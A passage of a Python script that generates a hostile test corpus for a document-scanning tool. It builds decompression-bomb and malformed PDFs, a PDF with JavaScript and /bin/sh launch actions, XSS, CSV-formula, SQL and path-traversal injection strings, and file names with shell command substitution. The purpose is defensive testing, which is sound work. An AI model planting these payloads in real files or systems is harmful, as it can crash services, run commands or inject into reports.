    put(D+"xref_loop_two.pdf", twoloop(), "two xref sections pointing at each other", "ok|partial:damaged|corrupt")
    put(D+"header_junk.pdf", b"\r\n" + b"X" * 900 + good, "900 bytes before %PDF", "ok", CANARY)
    put(D+"trailing_junk.pdf", good + b"\0" * 100000, "100 kB NUL at the end", "ok|partial:damaged")
    put(D+"no_header.pdf", good.replace(b"%PDF-1.7", b"%XYZ-1.7"), "no %PDF header", "wrong_type|corrupt|ok")
    put(D+"only_header.pdf", b"%PDF-1.4\n%%EOF\n", "header only", "corrupt"); put(D+"empty.pdf", b"", "0 bytes", "corrupt"); put(D+"nul_1MB.pdf", b"\0" * (1 << 20), "all NUL", "corrupt")
    put(D+"really_docx.pdf", docx(GOOD), "docx named .pdf", "wrong_type|ok"); put(D+"really_html.pdf", b"<!DOCTYPE html><html><body>404 Not Found</body></html>", "HTML (failed download)", "wrong_type"); put(D+"really_jpeg.pdf", b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 500, "JPEG named .pdf", "wrong_type")
    # --- page trees
    put(D+"pagetree_loop.pdf", page_pdf(show(CANARY), tweak=lambda p, i: p.add(f"<< /Type /Pages /Kids [{i['pg']} 0 R {i['pgs']} 0 R] /Count 2 /Parent {i['pgs']} 0 R >>", i["pgs"])), "page tree contains itself", "ok|partial:damaged|corrupt")
    def shared(p, i, depth=6, fan=10):
        kid = i["pg"]; cnt = 1
        for _ in range(depth - (2 if SMALL else 0)):
            cnt *= fan; kid = p.add(f"<< /Type /Pages /Kids [{(str(kid) + ' 0 R ') * fan}] /Count {cnt} >>")
        p.add(f"<< /Type /Catalog /Pages {kid} 0 R >>", i["cat"])
    put(D+"pages_1e6_shared.pdf", page_pdf(show(CANARY), tweak=shared), "1,000,000 pages from 8 objects", "limit:pages|partial:limit|limit:time")
    put(D+"pages_1e6_padded.pdf", page_pdf(show(CANARY), tweak=shared, xrefstm=n(1_000_100)), "the same with 1e6 declared objects, so that the page count passes plausibility checks", "limit:pages|partial:limit|limit:time")
    put(D+"pages_count_1e9.pdf", page_pdf(show(CANARY), tweak=lambda p, i: p.add(f"<< /Type /Pages /Kids [{i['pg']} 0 R] /Count 1000000000 >>", i["pgs"])), "/Count 1e9, one page", "ok|partial:damaged|limit:pages|corrupt")
    put(D+"pages_count_neg.pdf", page_pdf(show(CANARY), tweak=lambda p, i: p.add(f"<< /Type /Pages /Kids [{i['pg']} 0 R] /Count -5 >>", i["pgs"])), "/Count -5", "ok|partial:damaged|corrupt")
    def deep(p, i):
        kid = i["pg"]
        for _ in range(n(20000)): kid = p.add(f"<< /Type /Pages /Kids [{kid} 0 R] /Count 1 >>")
        p.add(f"<< /Type /Catalog /Pages {kid} 0 R >>", i["cat"])
    put(D+"pagetree_deep_20k.pdf", page_pdf(show(CANARY), tweak=deep), "page tree 20,000 levels deep", "ok|partial:damaged|corrupt|limit:depth")
    put(D+"huge_mediabox.pdf", simple_pdf(CANARY, box="[0 0 1e9 1e9]"), "page of 1e9 x 1e9 points", "ok", CANARY)
    put(D+"nan_mediabox.pdf", simple_pdf(CANARY, box="[0 0 0 -1]"), "degenerate page box", "ok|partial:damaged")
    # --- streams
    put(D+"chars_1e7_one_page.pdf", page_pdf("BT /F1 4 Tf 10 59000 Td 5 TL\n" + "".join(f"({CANARY * 20}) '\n" for _ in range(n(10_000_000) // (20 * len(CANARY)))), box="[0 0 4000 60000]"), "1e7 characters on one page", "ok|limit:time|partial:limit", "")
    put(D+"tiny_chars_1e5.pdf", page_pdf("BT /F1 1 Tf 10 800 Td 1 TL\n" + "(x) '\n" * 60000 + "ET\n" + show(CANARY), box="[0 -70000 595 842]"), "60,000 one-point letters before the clause (Poppler drops tiny letters after 50,000)", "ok|partial:limit", CANARY)
    put(D+"tj_1e6_single.pdf", page_pdf("BT /F1 8 Tf\n" + "".join(f"1 0 0 1 {i % 500} {(i // 500) % 800} Tm (a) Tj\n" for i in range(n(1_000_000))) + "ET"), "1e6 single-character Tj operators", "ok|limit:time|limit:memory|partial:limit")
    comp, k, u = deflate_repeat(b" " * (1 << 20), n(3000), show(CANARY).encode())
    zs = b"\x78\xda" + comp + b"\0\0\0\0"
    put(D+"flate_bomb_3GiB.pdf", page_pdf((b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(zs) + zs + b"\nendstream",)), "content stream inflates to 3 GiB", "limit:time|limit:memory|limit:inflated|partial:limit|ok", "")
    b3 = zlib.compress(zlib.compress(zlib.compress(b" " * n(1 << 30), 9), 9), 9)
    put(D+"flate_x3_bomb.pdf", page_pdf((b"<< /Length %d /Filter [/FlateDecode /FlateDecode /FlateDecode] >>\nstream\n" % len(b3) + b3 + b"\nendstream",)), "three chained Flate filters: tiny file -> 1 GiB", "limit:time|limit:memory|no_text|partial:limit")
    put(D+"filters_1000.pdf", page_pdf((b"<< /Length 10 /Filter [" + b"/ASCIIHexDecode " * 1000 + b"] >>\nstream\n4141414141\nendstream",)), "1,000 chained filters", "corrupt|no_text|partial:damaged")
    def xobj(levels, fan):
        def tw(p, i):
            last = p.stream(show("laugh"), f"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /Font << /F1 {i['f']} 0 R >> >>")
            for _ in range(levels): last = p.stream("/X Do\n" * fan, f"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X {last} 0 R >> >>")
            pg = p.o[i["pg"]].decode("latin-1").replace("/Resources <<", f"/Resources << /XObject << /X {last} 0 R >>"); p.add(pg, i["pg"])
        return tw
    put(D+"form_xobject_laughs.pdf", page_pdf(show(CANARY) + "/X Do\n", tweak=xobj(9, 10)), "form XObjects calling each other 10^9 times (PDF billion laughs)", "limit:time|partial:limit")
    def selfdo(p, i):
        xo = p.add(""); p.stream("/X Do\n" * 2, f"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X {xo} 0 R >> >>", xo)
        pg = p.o[i["pg"]].decode("latin-1").replace("/Resources <<", f"/Resources << /XObject << /X {xo} 0 R >>"); p.add(pg, i["pg"])
    put(D+"form_xobject_self.pdf", page_pdf(show(CANARY) + "/X Do\n", tweak=selfdo), "form XObject that draws itself", "ok|partial:damaged", CANARY)
    put(D+"deep_array_1e6.pdf", page_pdf(show(CANARY), tweak=lambda p, i: p.add("<< /Type /Catalog /Pages %d 0 R /D %s%s >>" % (i["pgs"], "[" * n(1_000_000), "]" * n(1_000_000)), i["cat"])), "array nested 1e6 deep in the catalog", "ok|partial:damaged|corrupt")
    put(D+"deep_dict_1e5.pdf", page_pdf(show(CANARY), tweak=lambda p, i: p.add("<< /Type /Catalog /Pages %d 0 R /D %s1%s >>" % (i["pgs"], "<< /A " * n(100_000), " >>" * n(100_000)), i["cat"])), "dictionary nested 1e5 deep", "ok|partial:damaged|corrupt")
    put(D+"q_1e6.pdf", page_pdf("q\n" * n(1_000_000) + show(CANARY)), "1e6 nested graphics states", "ok|limit:time|limit:memory|partial:limit")
    put(D+"content_deep_array.pdf", page_pdf(show(CANARY) + "BT /F1 9 Tf " + "[" * n(500_000) + " TJ ET"), "500,000 open arrays in a content stream", "ok|partial:damaged")
    put(D+"length_loop.pdf", page_pdf((b"<< /Length 4 0 R >>\nstream\n" + show(CANARY).encode() + b"\nendstream",)), "stream /Length refers to the stream itself", "ok|partial:damaged|corrupt")
    put(D+"ref_loop.pdf", page_pdf(show(CANARY), tweak=lambda p, i: (p.add("21 0 R", 20), p.add("20 0 R", 21), p.add(p.o[i["pg"]].decode("latin-1").replace("[0 0 595 842]", "20 0 R"), i["pg"]))), "MediaBox -> 20 -> 21 -> 20", "ok|partial:damaged|corrupt")
    put(D+"outline_loop.pdf", page_pdf(show(CANARY), tweak=lambda p, i: (p.add("<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 1 >>", 30), p.add("<< /Title (x) /Parent 30 0 R /Next 31 0 R /First 30 0 R /Last 31 0 R >>", 31), p.add(f"<< /Type /Catalog /Pages {i['pgs']} 0 R /Outlines 30 0 R >>", i["cat"]))), "outline loop", "ok", CANARY)
    put(D+"type3_recursive.pdf", page_pdf(show("aaaa"), font="<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 40 0 R >> /Resources << /Font << /F1 3 0 R >> >> >>", tweak=lambda p, i: p.stream("9 0 d0 BT /F1 1 Tf (aaaaaaaaaa) Tj ET", num=40)), "Type 3 glyph drawn with its own font", "ok|no_text|partial:damaged")
    img = lambda d, data, comp=True: (lambda p, i: (p.stream(data, "/Type /XObject /Subtype /Image " + d, 50, comp), p.add(p.o[i["pg"]].decode("latin-1").replace("/Resources <<", "/Resources << /XObject << /I 50 0 R >>"), i["pg"])))
    draw = "q 500 0 0 700 40 40 cm /I Do Q\n"
    put(D+"image_only.pdf", page_pdf(draw, tweak=img("/Width 64 /Height 64 /BitsPerComponent 1 /ColorSpace /DeviceGray", b"\xAA\x55" * 256)), "a page that is only an image", "no_text")
    put(D+"mixed_image_page.pdf", page_pdf(show(CANARY), tweak=lambda p, i: (p.stream(b"\xAA" * 512, "/Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 1 /ColorSpace /DeviceGray", 50), p.stream(draw, num=51), p.add(f"<< /Type /Page /Parent {i['pgs']} 0 R /MediaBox [0 0 595 842] /Contents 51 0 R /Resources << /XObject << /I 50 0 R >> >> >>", 52), p.add(f"<< /Type /Pages /Kids [{i['pg']} 0 R 52 0 R] /Count 2 >>", i["pgs"]))), "page 1 text, page 2 only an image: the gap must be said", "partial:image_pages", CANARY)
    put(D+"image_bomb_100k.pdf", page_pdf(show(CANARY) + draw, tweak=img("/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB", b"\0" * 1000)), "image of 100,000 x 100,000 RGB (30 GB when decoded)", "ok", CANARY)
    jb = struct.pack(">IBBBI", 0, 0x30, 0, 1, 19) + struct.pack(">IIIIBH", 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0)
    put(D+"jbig2_bomb.pdf", page_pdf(show(CANARY) + draw, tweak=img("/Width 2147483647 /Height 2147483647 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode", jb, False)), "JBIG2 page of 2^31 x 2^31", "ok", CANARY)
    jp = b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0\0\0\x14ftypjp2 \0\0\0\0jp2 " + struct.pack(">I4s I4s IIHBBBB", 45, b"jp2h", 22, b"ihdr", 0xFFFFFFF0, 0xFFFFFFF0, 3, 7, 7, 0, 0) + struct.pack(">I4sBBBI", 15, b"colr", 1, 0, 0, 16) + struct.pack(">I4s", 0, b"jp2c") + b"\xff\x4f\xff\x51" + struct.pack(">HHIIIIIIII", 47, 0, 0xFFFFFFF0, 0xFFFFFFF0, 0, 0, 0xFFFFFFF0, 0xFFFFFFF0, 0, 0) + struct.pack(">H", 3) + b"\7\1\1" * 3
    put(D+"jpx_bomb.pdf", page_pdf(show(CANARY) + draw, tweak=img("/Width 4294967280 /Height 4294967280 /Filter /JPXDecode", jp, False)), "JPEG 2000 of 4e9 x 4e9", "ok", CANARY)
    # --- text that is not what it seems
    put(D+"no_tounicode.pdf", page_pdf(show(CANARY), font="<< /Type /Font /Subtype /Type1 /BaseFont /ABCDEF+X /FirstChar 32 /LastChar 122 /Encoding << /Differences [32 " + " ".join(f"/g{i}" for i in range(91)) + "] >> >>"), "glyph names without Unicode: text must be flagged as unreadable", "partial:unreadable_text|no_text")
    cmap = "/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <20> <7e> <0061> endbfrange endcmap end"
    put(D+"wrong_tounicode.pdf", page_pdf(show(CANARY), font=FONT[:-2] + " /ToUnicode 60 0 R >>", tweak=lambda p, i: p.stream(cmap, num=60)), "ToUnicode shifts every letter", "ok|partial:unreadable_text")
    put(D+"invisible_tr3.pdf", page_pdf(show(CANARY, "3 Tr") + draw, tweak=img("/Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray", b"\xAA" * 8)), "invisible text over an image (OCR layer): is real text", "ok", CANARY)
    put(D+"white_on_white.pdf", page_pdf("1 g " + show(CANARY)), "white on white", "ok", CANARY)
    put(D+"off_page.pdf", page_pdf(show(CANARY, y=5000) + show("Visible text here.")), "text outside the page", "ok", "Visible text here.")
    put(D+"covered.pdf", page_pdf(show(CANARY) + "0 g 0 600 600 200 re f"), "text under a black box (bad redaction)", "ok", CANARY)
    put(D+"fake_bold.pdf", page_pdf(show(CANARY) + show(CANARY, y=699.7)), "same text drawn twice (fake bold)", "ok", CANARY)
    put(D+"letterspaced.pdf", page_pdf("BT /F1 12 Tf 8 Tc 50 700 Td (Users must not copy.) Tj ET"), "letter-spaced text", "ok", "")
    put(D+"rotated_90.pdf", page_pdf("BT /F1 12 Tf 0 1 -1 0 300 100 Tm (" + esc(CANARY) + ") Tj ET"), "rotated text", "ok", CANARY)
    put(D+"acroform_value.pdf", page_pdf(show("Form:"), extra="/Annots [70 0 R]", tweak=lambda p, i: (p.add(f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V ({CANARY}) /Rect [50 600 500 630] >>", 70), p.add(f"<< /Type /Catalog /Pages {i['pgs']} 0 R /AcroForm << /Fields [70 0 R] >> >>", i["cat"]))), "clause only in a form field value", "ok|partial:form")
    put(D+"actions.pdf", page_pdf(show(CANARY), tweak=lambda p, i: p.add(f"<< /Type /Catalog /Pages {i['pgs']} 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) /Next << /S /Launch /F (/bin/sh) /Next << /S /URI /URI (http://127.0.0.1:9/) >> >> >> /Names << /EmbeddedFiles << /Names [(../../x.exe) << /Type /Filespec /F (../../x.exe) /EF << /F 4 0 R >> >>] >> >> >>", i["cat"])), "JavaScript, Launch, URI, attachment named ../../x.exe", "ok", CANARY)
    # --- encryption
    put(D+"enc_user_pw.pdf", encrypted_pdf("secret", "owner"), "user password 'secret'", "needs_password")
    put(D+"enc_owner_only.pdf", encrypted_pdf("", "owner"), "owner password only: opens without one", "ok", CANARY)
    put(D+"enc_unknown.pdf", page_pdf(show(CANARY), tweak=lambda p, i: (p.add("<< /Filter /FooCrypt /V 99 >>", 80), setattr(p, "trailer", "/Encrypt 80 0 R /ID [<00><00>]"))), "unknown security handler", "unsupported_encryption|corrupt|needs_password")

# ---------------------------------------------------------------- injection into reports
INJ = ['<script>alert("policygap")</script> users must not', '"><img src=x onerror=alert(1)> users must not', "</textarea></style><svg/onload=alert(1)> must not",
       "=cmd|'/C calc'!A0 users must not", '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click") must not', "@SUM(1+1)*cmd|' /C calc'!A0 must not", "+1+1 must not", "-2+3 must not", "\t=1+1 must not", "\r=1+1 must not",
       '"quoted","comma";semicolon\nnewline must not', "[click](javascript:alert(1)) must not", "{{7*7}} ${7*7} <%= 7*7 %> must not", "]]> <!-- --> must not", "\x1b[2J\x1b]0;title\x07 must not",
       "abc\u202egnp.exe must not", "\u200bzero\u200dwidth must not", "%s%s%n %d must not", "'; DROP TABLE findings;-- must not", "../../etc/passwd must not", "\ud7ff\ufffe\uffff must not".replace("\ufffe", "").replace("\uffff", "")]
def make_inject():
    D = "inject/"
    for i, t in enumerate(INJ):
        clean = "".join(c for c in t if c in "\t\r\n" or ord(c) >= 32)
        put(D+f"inj_{i:02d}.docx", docx(body(para(clean))), "report injection: " + ascii(t)[:60], "ok", "must not")
        try: put(D+f"inj_{i:02d}.pdf", page_pdf(show(t.encode("latin-1").decode("latin-1"))), "report injection: " + ascii(t)[:60], "ok", "must not")
        except UnicodeError: pass
    t = esc('<script>alert(1)</script>=1+1')
    put(D+"metadata.pdf", page_pdf(show(CANARY), tweak=lambda p, i: (p.add(f"<< /Title ({t}) /Author ({t}) >>", 90), setattr(p, "trailer", "/Info 90 0 R"))), "injection by document title and author", "ok", CANARY)
    put(D+"core_props.docx", docx(GOOD, extra=[("docProps/core.xml", '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&lt;script&gt;alert(1)&lt;/script&gt;</dc:title></cp:coreProperties>')]), "injection by dc:title", "ok", CANARY)

# ---------------------------------------------------------------- directory layouts
def make_fs():
    D = os.path.join(OUT, "fs"); os.makedirs(D, exist_ok=True); Db = os.fsencode(D); g = docx(GOOD); gp = simple_pdf(CANARY)
    def nm(name, data=g, threat="file name", exp="ok"):
        if isinstance(name, str): name = name.encode("utf-8", "surrogateescape")
        try:
            with open(os.path.join(Db, name), "wb") as f: f.write(data)
            row(b"fs/" + name, threat, exp, CANARY if exp == "ok" else "")
        except OSError as e: row(b"fs/" + name[:60], threat + " (not creatable here: %s)" % e.strerror, "skipped:fs")
    nm("new\nline.docx"); nm("tab\there.docx"); nm(b"bad_utf8_\xff\xfe\xc3.docx", threat="name is not valid UTF-8"); nm("-rf.docx", threat="name starts with -"); nm("--help.pdf", gp, "name looks like an option")
    nm("$(touch pwned).docx"); nm("`id`;id&id|id.docx"); nm("quote'\"back\\slash.docx"); nm("<img src=x onerror=alert(1)>.docx", threat="HTML in the name"); nm("=1+1.docx", threat="formula in the name")
    nm("trailing space .docx "); nm(" leading.docx"); nm("a" * 250 + ".docx", threat="255 byte name"); nm("\u202etxt.docx", threat="bidi override"); nm("e\u0301.docx", threat="NFD name"); nm("\u00e9.docx", threat="NFC twin of the NFD name"); nm("CASE.docx"); nm("case.docx", threat="case twin")
    nm("CON.docx", threat="reserved on Windows"); nm("..%2f..%2fevil.docx", threat="encoded traversal in the name"); nm("UPPER.DOCX"); nm("mixed.PdF", gp); nm("noext", g, "docx without extension", "skipped:type|ok"); nm(".hidden.docx", threat="hidden file", exp="ok|skipped:hidden")
    nm("~$lock.docx", b"\x05owner" + b"\0" * 156, "Word lock file", "skipped:lock"); nm("._apple.docx", b"\0\5\x16\7" + b"\0" * 100, "AppleDouble file", "skipped:type|corrupt"); nm("Thumbs.db", b"\xd0\xcf\x11\xe0" + b"\0" * 508, "Windows cache", "skipped:type")
    for a in ("a/b_c", "a_b/c"):                                   # same flattened report name
        os.makedirs(os.path.join(D, os.path.dirname(a)), exist_ok=True); put("fs/" + a + ".docx", g, "report name collision when paths are flattened", "ok", CANARY)
    put("fs/same.docx", g, "same stem, two types", "ok", CANARY); put("fs/same.pdf", gp, "same stem, two types", "ok", CANARY); put("fs/index.html.docx", g, "collides with the report's own file", "ok", CANARY)
    # links and special files
    def sp(name, fn, threat, exp):
        p = os.path.join(D, name)
        try:
            if os.path.lexists(p): os.unlink(p)
            fn(p); row("fs/" + name, threat, exp)
        except OSError as e: row("fs/" + name, threat + " (not creatable here: %s)" % e.strerror, "skipped:fs")
    sp("loop_dir", lambda p: os.symlink(".", p), "symlink to its own directory", "skipped:symlink"); os.makedirs(os.path.join(D, "l1"), exist_ok=True); sp("l1/up", lambda p: os.symlink("..", p), "symlink to the parent", "skipped:symlink")
    sp("selfloop.docx", lambda p: os.symlink("selfloop.docx", p), "symlink to itself (ELOOP)", "skipped:symlink"); sp("dangling.docx", lambda p: os.symlink("nowhere.docx", p), "dangling symlink", "skipped:symlink")
    sp("outside.docx", lambda p: os.symlink("/etc/passwd", p), "symlink out of the share", "skipped:symlink"); sp("outside_dir", lambda p: os.symlink("/etc", p), "directory symlink out of the share", "skipped:symlink"); sp("link_to_good.docx", lambda p: os.symlink("same.docx", p), "symlink inside the share", "skipped:symlink|ok")
    sp("hardlink.docx", lambda p: os.link(os.path.join(D, "same.docx"), p), "hard link (same content twice)", "ok"); sp("pipe.docx", lambda p: os.mkfifo(p), "FIFO: open() blocks without O_NONBLOCK", "skipped:special")
    def sock(p):
        s = socket.socket(socket.AF_UNIX); cwd = os.getcwd(); os.chdir(os.path.dirname(p)); s.bind(os.path.basename(p)); os.chdir(cwd); s.close()
    sp("socket.docx", sock, "unix socket", "skipped:special")
    sp("zero.pdf", lambda p: os.mknod(p, stat.S_IFCHR | 0o666, os.makedev(1, 5)), "character device (endless zeros)", "skipped:special")
    sp("dir.docx", lambda p: os.makedirs(p), "directory named .docx", "skipped:dir")
    sp("sparse_100G.pdf", lambda p: (open(p, "wb").close(), os.truncate(p, 100 << 30)), "sparse file of 100 GiB", "limit:file_size|corrupt")
    sp("noperm.docx", lambda p: (open(p, "wb").write(g), os.chmod(p, 0)), "chmod 000 (only bites when not root)", "unreadable"); sp("noperm_dir", lambda p: (os.makedirs(p), open(p + "/x.docx", "wb").write(g), os.chmod(p, 0)), "directory chmod 000 (only bites when not root)", "unreadable")
    # long path: below PATH_MAX per step, above it in total
    cwd = os.getcwd(); os.chdir(D); depth = 0
    try:
        for i in range(30):
            os.makedirs("d" * 200, exist_ok=True); os.chdir("d" * 200); depth += 1
        open("deep.docx", "wb").write(g)
    except OSError: pass
    os.chdir(cwd); row("fs/" + "d" * 20 + "...x%d/deep.docx" % depth, "path longer than PATH_MAX (6,000 bytes)", "ok|unreadable")
    many = os.path.join(D, "many"); os.makedirs(many, exist_ok=True)
    for i in range(n(5000)): open(os.path.join(many, "f%05d.docx" % i), "wb").write(g)
    row("fs/many/f*.docx", "%d small files in one directory" % n(5000), "ok", CANARY)

def main():
    global OUT, SMALL
    a = [v for v in sys.argv[1:] if not v.startswith("--")]; SMALL = "--small" in sys.argv
    only = [v.split("=", 1)[1].split(",") for v in sys.argv if v.startswith("--only=")]
    if not a: print(__doc__); return 2
    OUT = os.path.abspath(a[0]); os.makedirs(OUT, exist_ok=True)
    for name, fn in (("docx", make_docx), ("pdf", make_pdf), ("inject", make_inject), ("fs", make_fs)):
        if not only or name in only[0]: fn()
    with open(os.path.join(OUT, "MANIFEST.tsv"), "w", encoding="utf-8", errors="surrogateescape") as f:
        f.write("path\tthreat\texpected\tmust_contain\n")
        for r in ROWS: f.write("\t".join(s.replace("\t", " ").replace("\n", " ") for s in r) + "\n")
    print(len(ROWS), "entries in", OUT)
    return 0

if __name__ == "__main__":
    sys.exit(main())
